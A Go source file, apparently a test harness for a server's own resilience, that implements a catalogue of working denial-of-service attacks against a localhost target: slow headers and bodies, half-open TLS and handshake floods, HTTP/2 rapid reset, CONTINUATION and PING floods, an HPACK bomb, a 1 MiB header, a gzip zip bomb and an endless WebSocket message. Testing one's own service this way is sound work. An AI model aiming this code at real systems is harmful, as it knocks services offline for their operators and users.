package main

import (
	"bytes"
	"compress/gzip"
	"context"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

var attacks = []attack{
	{"none", func(ctx context.Context, _ target, _ *atomic.Int64) { <-ctx.Done() }},
	{"slow headers", trickle(1000, "GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")},
	{"slow bodies", trickle(1000, "POST /topics/slow HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer "+token+"\r\nContent-Length: 1000000\r\n\r\n")},
	{"half-open TLS handshakes", handshakes},
	{"TLS handshakes and nothing more", greetings},
	{"rapid reset", overHTTP2(rapidReset)},
	{"CONTINUATION flood", overHTTP2(continuation)},
	{"PING flood", overHTTP2(pings)},
	{"HPACK bomb", overHTTP2(hpackBomb)},
	{"header of 1 MiB", repeated(16, headerBomb)},
	{"zip bomb", repeated(16, zipBomb)},
	{"WebSocket message without end", repeated(64, endless)},
}

// together runs n of f at one time.
func together(n int, f func(i int)) {
	var all sync.WaitGroup
	for i := range n {
		all.Go(func() { f(i) })
	}
	all.Wait()
}

// repeated makes f n times at once, and again until ctx ends.
func repeated(n int, f func(ctx context.Context, t target) error) func(context.Context, target, *atomic.Int64) {
	return func(ctx context.Context, t target, made *atomic.Int64) {
		together(n, func(int) {
			for ctx.Err() == nil {
				made.Add(1)
				if f(ctx, t) != nil { // refused: what it came for
					pause(ctx, roundTrip)
				}
			}
		})
	}
}

// roundTrip is how far away the attackers are: one that was refused comes back
// no sooner.
const roundTrip = 10 * time.Millisecond

func pause(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}

func dial(ctx context.Context, address string) (net.Conn, error) {
	c, err := new(net.Dialer).DialContext(ctx, "tcp", address)
	if err != nil {
		pause(ctx, roundTrip)
	}
	return c, err
}

// trickle keeps n connections that send a beginning and then a byte a second;
// one that the server closes is opened again.
func trickle(n int, beginning string) func(context.Context, target, *atomic.Int64) {
	return func(ctx context.Context, t target, made *atomic.Int64) {
		together(n, func(i int) {
			pause(ctx, time.Duration(i)*time.Millisecond)
			for ctx.Err() == nil {
				c, err := dial(ctx, t.http)
				if err != nil {
					continue
				}
				made.Add(1)
				_, err = io.WriteString(c, beginning)
				for err == nil && ctx.Err() == nil {
					pause(ctx, time.Second)
					_, err = c.Write([]byte("x"))
				}
				_ = c.Close()
			}
		})
	}
}

// handshakes opens connections that send half of a TLS record.
func handshakes(ctx context.Context, t target, made *atomic.Int64) {
	together(1000, func(i int) {
		pause(ctx, time.Duration(i)*time.Millisecond)
		for ctx.Err() == nil {
			c, err := dial(ctx, t.https)
			if err != nil {
				continue
			}
			made.Add(1)
			_, _ = c.Write([]byte{0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03})
			stop := context.AfterFunc(ctx, func() { _ = c.Close() })
			_, _ = io.Copy(io.Discard, c) // until the server has had enough
			stop()
			_ = c.Close()
		}
	})
}

// greetings completes handshakes, which cost the server a signature each, at
// the rate at which one attacker's core makes them.
func greetings(ctx context.Context, t target, made *atomic.Int64) {
	cfg := &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}} //nolint:gosec // its own certificate
	var open []net.Conn
	defer func() {
		for _, c := range open {
			_ = c.Close()
		}
	}()
	for ctx.Err() == nil && len(open) < 2000 {
		c, err := dial(ctx, t.https)
		if err != nil {
			continue
		}
		made.Add(1)
		open = append(open, c)
		_ = tls.Client(c, cfg).HandshakeContext(ctx)
		pause(ctx, 5*time.Millisecond)
	}
	<-ctx.Done()
}

// flooders is how many connections of HTTP/2 a flood has.
const flooders = 16

// overHTTP2 opens them, and again as they are closed, a round trip later.
func overHTTP2(flood func(ctx context.Context, f *http2.Framer, made *atomic.Int64) error) func(context.Context, target, *atomic.Int64) {
	return func(ctx context.Context, t target, made *atomic.Int64) {
		together(flooders, func(int) {
			for ctx.Err() == nil {
				c, err := dial(ctx, t.http)
				if err != nil {
					continue
				}
				stop := context.AfterFunc(ctx, func() { _ = c.Close() })
				go func() { _, _ = io.Copy(io.Discard, c) }() // ends with c
				_, err = io.WriteString(c, http2.ClientPreface)
				f := http2.NewFramer(c, nil)
				f.AllowIllegalWrites = true
				if err == nil && f.WriteSettings() == nil {
					_ = flood(ctx, f, made) // until the server has had enough
				}
				stop()
				_ = c.Close()
				pause(ctx, roundTrip)
			}
		})
	}
}

func header(fields ...string) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	all := append([]string{":method", "GET", ":scheme", "http", ":authority", "localhost", ":path", "/topics/calm"}, fields...)
	for i := 0; i < len(all); i += 2 {
		_ = e.WriteField(hpack.HeaderField{Name: all[i], Value: all[i+1]}) // a bytes.Buffer takes all
	}
	return b.Bytes()
}

func rapidReset(ctx context.Context, f *http2.Framer, made *atomic.Int64) error {
	block := header()
	for id := uint32(1); ctx.Err() == nil; id += 2 {
		made.Add(1)
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true}); err != nil {
			return err
		}
		if err := f.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			return err
		}
	}
	return nil
}

func continuation(ctx context.Context, f *http2.Framer, made *atomic.Int64) error {
	if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: header()}); err != nil {
		return err
	}
	more := header("x-more", strings.Repeat("x", 8<<10))
	for ctx.Err() == nil {
		made.Add(1)
		if err := f.WriteContinuation(1, false, more); err != nil {
			return err
		}
	}
	return nil
}

func pings(ctx context.Context, f *http2.Framer, made *atomic.Int64) error {
	for ctx.Err() == nil {
		made.Add(1)
		if err := f.WritePing(false, [8]byte{}); err != nil {
			return err
		}
	}
	return nil
}

// hpackBomb puts one field of 4 KiB into the table and names it thousands of
// times, a byte each.
func hpackBomb(ctx context.Context, f *http2.Framer, made *atomic.Int64) error {
	for id := uint32(1); ctx.Err() == nil; id += 2 {
		made.Add(1)
		block := header("x-bomb", strings.Repeat("x", 3900))
		block = append(block, bytes.Repeat([]byte{0x80 | 62}, 15<<10)...)
		if id > 1 {
			block = append(header(), bytes.Repeat([]byte{0x80 | 62}, 15<<10)...)
		}
		for first := true; len(block) > 0; first = false {
			part := block[:min(len(block), 16<<10)]
			block = block[len(part):]
			var err error
			if first {
				err = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: part, EndStream: true, EndHeaders: len(block) == 0})
			} else {
				err = f.WriteContinuation(id, len(block) == 0, part)
			}
			if err != nil {
				return err
			}
		}
		pause(ctx, time.Millisecond)
	}
	return nil
}

func headerBomb(ctx context.Context, t target) error {
	c, err := dial(ctx, t.http)
	if err != nil {
		return err
	}
	defer c.Close()
	_, err = fmt.Fprintf(c, "GET / HTTP/1.1\r\nHost: localhost\r\nX-Large: %s\r\n\r\n", strings.Repeat("x", 1<<20))
	return err
}

// bomb is 64 MiB of zeros, coded.
var bomb = sync.OnceValue(func() []byte {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	zeros := make([]byte, 1<<20)
	for range 64 {
		_, _ = w.Write(zeros)
	}
	_ = w.Close()
	return b.Bytes()
})

func zipBomb(ctx context.Context, t target) error {
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, "http://"+t.http+"/topics/bomb", bytes.NewReader(bomb()))
	if err != nil {
		return err
	}
	req.Header.Set("Authorization", "Bearer "+token)
	req.Header.Set("Content-Encoding", "gzip")
	req.Header.Set("Content-Type", "text/plain")
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		return err
	}
	_, _ = io.Copy(io.Discard, res.Body)
	return res.Body.Close()
}

// endless sends the fragments of one WebSocket message, as fast as they are
// taken, under a header that promises 2^62 bytes.
func endless(ctx context.Context, t target) error {
	c, err := dial(ctx, t.http)
	if err != nil {
		return err
	}
	defer c.Close()
	stop := context.AfterFunc(ctx, func() { _ = c.Close() })
	defer stop()
	_, err = io.WriteString(c, "GET /topics/calm HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"+
		"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n")
	if err != nil {
		return err
	}
	frame := binary.BigEndian.AppendUint64([]byte{0x82, 0x80 | 127}, 1<<62)
	frame = append(frame, 0, 0, 0, 0)
	if _, err := c.Write(frame); err != nil {
		return err
	}
	part := make([]byte, 64<<10)
	for range 1 << 10 {
		if _, err := c.Write(part); err != nil {
			return err
		}
	}
	return nil
}
